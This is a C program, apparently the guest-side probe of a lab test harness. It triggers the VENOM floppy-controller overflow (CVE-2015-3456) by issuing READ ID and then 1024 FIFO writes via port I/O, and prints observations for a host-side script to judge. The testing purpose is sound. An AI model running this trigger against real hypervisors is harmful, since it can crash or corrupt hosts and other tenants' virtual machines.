/* Run inside the Linux lab guest after floppy.ko was unloaded: reads the floppy controller's VERSION,
 * makes the VENOM sequence (CVE-2015-3456: READ ID, then twice the 512-byte FIFO in data bytes) from
 * user space with iopl + outb, resets the controller and reads VERSION again. Prints one
 * GUEST-... line per observation on stdout (the guest's serial console); the dom0 script judges them. */
#include <stdio.h>
#include <sys/io.h>

#define FDC_DOR 0x3f2
#define FDC_MSR 0x3f4
#define FDC_FIFO 0x3f5
#define MSR_RQM 0x80
#define MSR_DIO 0x40
#define VENOM_FIFO_WRITES 1024

/* Bounded: a controller that never becomes ready (or a refused read, all-ones) must not hang us. */
static int fdc_wait(unsigned char dio)
{
    for (int i = 0; i < 100000; i++) {
        unsigned char msr = inb(FDC_MSR);
        if ((msr & MSR_RQM) && (msr & MSR_DIO) == dio)
            return 1;
    }
    return 0;
}

static void fdc_reset(void)
{
    outb(0x00, FDC_DOR);
    outb(0x0c, FDC_DOR);
}

static int fdc_version(void)
{
    if (!fdc_wait(0))
        return -1;
    outb(0x10, FDC_FIFO);
    if (!fdc_wait(MSR_DIO))
        return -2;
    return inb(FDC_FIFO);
}

int main(void)
{
    if (iopl(3) != 0) {
        perror("GUEST-ERROR iopl");
        return 1;
    }
    fdc_reset();
    printf("GUEST-FDC-VERSION-BEFORE %02x\n", fdc_version());
    fflush(stdout);
    outb(0x0a, FDC_FIFO); /* READ ID */
    for (int i = 0; i < VENOM_FIFO_WRITES; i++)
        outb(0x42, FDC_FIFO);
    printf("GUEST-VENOM-WRITES %d msr-after %02x\n", VENOM_FIFO_WRITES, inb(FDC_MSR));
    fdc_reset();
    printf("GUEST-FDC-VERSION-AFTER %02x\n", fdc_version());
    return 0;
}
